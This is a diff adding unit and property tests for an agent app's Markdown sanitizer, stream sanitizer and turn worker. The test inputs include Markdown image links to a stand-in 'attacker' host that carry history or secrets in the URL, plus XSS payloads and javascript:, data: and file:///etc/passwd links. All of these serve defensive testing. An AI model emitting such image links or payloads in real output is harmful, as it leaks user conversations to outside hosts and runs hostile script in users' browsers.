@@ -1,0 +1,204 @@
+"""sanitize_markdown and StreamSanitizer (RELIABILITY D3, D4, D5, I4, I5), and the turn worker."""
+
+from __future__ import annotations
+
+import threading
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from agent_app import events as ev
+from agent_app.ui.render import StreamSanitizer, host_allowed, sanitize_markdown
+from agent_app.ui.worker import TurnWorker
+
+pytestmark = pytest.mark.unit
+MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def _tokens(text: str):
+    stack = list(MD.parse(text))
+    while stack:
+        tok = stack.pop()
+        yield tok
+        stack.extend(tok.children or [])
+
+
+def _active(text: str) -> list[tuple[str, str]]:
+    """What a Markdown renderer would turn into something live: images, links, raw HTML."""
+    out = []
+    for tok in _tokens(sanitize_markdown(text)):
+        if tok.type == "image":
+            out.append(("image", str(tok.attrs.get("src"))))
+        elif tok.type == "link_open":
+            out.append(("link", str(tok.attrs.get("href"))))
+        elif tok.type in ("html_inline", "html_block"):
+            out.append(("html", tok.content))
+    return out
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://attacker/c?d=<history>)",
+        "![x](https://github.com/logo.png)",
+        'before ![a b](<https://attacker/x y.png> "title") after',
+        "[ref]: https://attacker/c?d=secret\n\n![x][ref] and [y][ref]",
+        "![multi\nline](https://attacker/x.png)",
+        "[![nested](https://attacker/i.png)](https://attacker/l)",
+    ],
+)
+def test_external_images_never_render(text):  # D3
+    assert [kind for kind, _ in _active(text)].count("image") == 0
+    assert "attacker" not in " ".join(href for kind, href in _active(text) if kind == "link")
+
+
+def test_image_becomes_plain_text():
+    assert (
+        sanitize_markdown("see ![a chart](https://attacker/c.png) here")
+        == "see \\[image: a chart\\] here"
+    )
+
+
+def test_links_outside_the_allowlist_are_inert_but_visible():
+    out = sanitize_markdown(
+        "[docs](https://github.com/x) and [prize](https://attacker.example/?q=1)"
+    )
+    assert _active("[docs](https://github.com/x) and [prize](https://attacker.example/?q=1)") == [
+        ("link", "https://github.com/x")
+    ]
+    assert "`https://attacker.example/?q=1`" in out and "prize" in out
+
+
+def test_bare_urls_outside_the_allowlist_are_code():
+    out = sanitize_markdown("go to https://attacker.example/x?d=1. or www.evil.example now")
+    assert out == "go to `https://attacker.example/x?d=1`. or `www.evil.example` now"
+    assert sanitize_markdown("https://help.aliyun.com/zh") == "https://help.aliyun.com/zh"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img src=x onerror=alert(1)>",
+        "<script>alert(1)</script>",
+        "a <b onclick=x>bold</b> <iframe src=//evil></iframe>",
+        "<div>\n<svg onload=alert(1)>\n</div>",
+    ],
+)
+def test_html_is_shown_as_text(text):  # D4
+    assert _active(text) == []
+    assert (
+        "alert" in sanitize_markdown(text)
+        or "evil" in sanitize_markdown(text)
+        or "bold" in sanitize_markdown(text)
+    )
+
+
+@pytest.mark.parametrize(
+    "href",
+    [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "data:text/html,<b>x</b>",
+        "vbscript:msgbox",
+        "file:///etc/passwd",
+    ],
+)
+def test_dangerous_schemes_are_not_links(href):  # D4
+    assert _active(f"[click]({href})") == []
+    assert not host_allowed(href)
+
+
+def test_dollar_amounts_are_not_latex():  # I4
+    assert (
+        sanitize_markdown("It costs ¥100 and $5, or $x^2$.")
+        == "It costs ¥100 and \\$5, or \\$x^2\\$."
+    )
+    assert sanitize_markdown("already \\$5") == "already \\$5"
+
+
+def test_code_is_left_alone():
+    text = "Use `a $b <c> ![x](http://e)` then:\n```python\nprint('$5 <b>')\n![x](http://e)\n```\nok $1"
+    out = sanitize_markdown(text)
+    assert "`a $b <c> ![x](http://e)`" in out
+    assert "print('$5 <b>')\n![x](http://e)\n```" in out
+    assert out.endswith("ok \\$1")
+
+
+def test_invisible_characters_are_dropped():  # D5
+    assert sanitize_markdown("a\u202eb\u200bc\U000e0041d") == "abcd"
+    assert sanitize_markdown("👩\u200d👩\u200d👧") == "👩\u200d👩\u200d👧"  # ZWJ emoji kept
+
+
+def test_plain_text_and_markdown_survive():
+    text = "# 标题\n\n**粗体** 和 *斜体*\n\n- 一\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
+    assert sanitize_markdown(text) == text
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text())
+def test_never_raises_and_never_renders_images_or_html(text):  # I5
+    out = sanitize_markdown(text)
+    assert isinstance(out, str)
+    assert not [a for a in _active(text) if a[0] in ("image", "html")]
+
+
+PIECES = st.sampled_from(
+    list("ab $<>[]()!`\\\n:/.hw~#文")
+    + ["http://", "https://e.com/x", "![", "](", "```", "github.com", "**", "¥100"]
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(PIECES, max_size=40), st.randoms(use_true_random=False))
+def test_streamed_pieces_add_up_to_the_sanitized_text(parts, rnd):
+    text, stream, shown, i = "".join(parts), StreamSanitizer(), "", 0
+    while i < len(text):
+        step = rnd.randint(1, 4)
+        shown += stream.feed(text[i : i + step])
+        assert sanitize_markdown(text[: i + step]).startswith(shown) or not [
+            a for a in _active(shown) if a[0] == "image"
+        ]
+        i += step
+    shown += stream.flush()
+    assert shown == sanitize_markdown(text)
+
+
+def test_stream_holds_back_an_unfinished_image():
+    stream = StreamSanitizer()
+    shown = stream.feed("Look: ![x](https://attac")
+    assert shown == "Look: "
+    shown += stream.feed("ker/c.png) done")
+    assert shown + stream.flush() == "Look: \\[image: x\\] done"
+
+
+def test_worker_streams_then_stops_cleanly():
+    seen = threading.Event()
+
+    def start(stop):
+        for i in range(1000):
+            if stop.is_set():
+                yield ev.Error("stopped", "Stopped.")
+                return
+            yield ev.Token(str(i))
+            seen.set()
+            time.sleep(0.005)
+
+    worker = TurnWorker("t1", start, "en")
+    first = next(worker.events())
+    assert first == ev.Token("0")
+    left = worker.finish(5)
+    assert left is not None and left[-1] == ev.Error("stopped", "Stopped.")
+    assert not worker.alive
+
+
+def test_worker_turns_a_crash_into_an_error_event():
+    def start(stop):
+        yield ev.Token("a")
+        raise RuntimeError("boom /secret/path")
+
+    events = list(TurnWorker("t2", start, "en").events())
+    assert events[0] == ev.Token("a")
+    assert isinstance(events[-1], ev.Error) and "/secret" not in events[-1].message
